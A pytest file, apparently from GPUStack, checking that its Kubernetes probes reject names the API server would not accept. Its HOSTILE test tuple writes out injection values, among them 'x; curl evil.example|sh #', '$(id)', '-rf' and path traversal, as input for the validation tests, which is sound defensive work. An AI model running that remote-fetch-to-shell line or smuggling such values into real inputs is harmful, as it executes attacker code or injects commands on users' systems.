"""A name that the API server does not accept makes the answer unusable: unknown, with the reason."""

import json
from pathlib import Path
from typing import Any

import pytest

from gpustack.ask.probe import Answer, FactUnavailable
from gpustack.probes.kubernetes.names import PATH_SEGMENT, require_names
from gpustack.probes.kubernetes.nodes import list_objects
from tests.worlds.snapshots.answers import CASES, index_probes

HOSTILE = (
    "x; curl evil.example|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "a\nb", "-rf", "a/../b", "A", "", "a" * 254,
    "\x1b[0m", "\u202egnol", 7,
)  # fmt: skip
WIDE_PROBES = ("api.certificate-requests", "rbac.cluster-roles", "rbac.cluster-role-bindings")
"""Probes of kinds whose names are any segment of a path."""
PLACES = (("metadata", "name"), ("metadata", "namespace"), ("spec", "nodeName"), ("involvedObject", "namespace"))


def list_cases() -> list[Path]:
    """Return a case of each probe whose answer is a list of objects with names."""
    paths: dict[str, Path] = {}
    for path in sorted(CASES.glob("*/*.json")):
        case = json.loads(path.read_text())
        if case["fact"] != {"unavailable": True} and read_items(case["answer"]["stdout"]):
            paths.setdefault(path.parent.name, path)
    return list(paths.values())


def read_items(text: str) -> list[Any]:
    try:
        document = json.loads(text)
    except ValueError:
        return []
    items = document.get("items") if isinstance(document, dict) else None
    return [entry for entry in items or () if isinstance(entry, dict) and "name" in entry.get("metadata", {})]


@pytest.mark.parametrize("path", list_cases(), ids=lambda path: path.parent.name)
def test_a_name_that_the_api_server_does_not_accept_is_not_used(path: Path) -> None:
    answer = json.loads(path.read_text())["answer"]
    document = json.loads(answer["stdout"])
    probe = index_probes()[path.parent.name]
    for name in HOSTILE[:-5]:
        if probe.id in WIDE_PROBES and "/" not in str(name):
            continue
        document["items"][0]["metadata"]["name"] = name
        with pytest.raises(FactUnavailable, match="the API server accepts no such name" if name else None):
            probe.extract_fact(Answer(probe.id, "host1", **{**answer, "stdout": json.dumps(document)}))


def test_the_probes_of_the_api_are_all_among_them() -> None:
    assert len(list_cases()) > 25


@pytest.mark.parametrize("place", PLACES, ids=".".join)
@pytest.mark.parametrize("name", [name for name in HOSTILE if name != ""], ids=repr)
def test_no_other_name_reaches_a_fact(place: tuple[str, str], name: object) -> None:
    with pytest.raises(FactUnavailable, match="the API server accepts no such name"):
        require_names({place[0]: {place[1]: name}})


@pytest.mark.parametrize(
    "name", ["k1", "k1.example.org", "kube-system", "1a", "pod-x2k4p.17a3f", "servicemonitors.monitoring.coreos.com"]
)
def test_names_of_rfc_1123_are_accepted(name: str) -> None:
    document = {"metadata": {"name": name}, "spec": {"nodeName": name}}
    answer = Answer("pods", "h1", 0, json.dumps({"items": [document]}), "")
    assert list_objects(answer) == [document]


def test_names_of_roles_may_have_what_a_segment_of_a_path_has() -> None:
    for name in ("system:node", "Team A: admins (EU)", "DOMAIN\\Group", "...", "-rf", "x\n"):
        require_names({"metadata": {"name": name}}, PATH_SEGMENT)
    for name in ("a/b", "a%b", ".", ".."):
        with pytest.raises(FactUnavailable, match="the API server accepts no such name"):
            require_names({"metadata": {"name": name}}, PATH_SEGMENT)
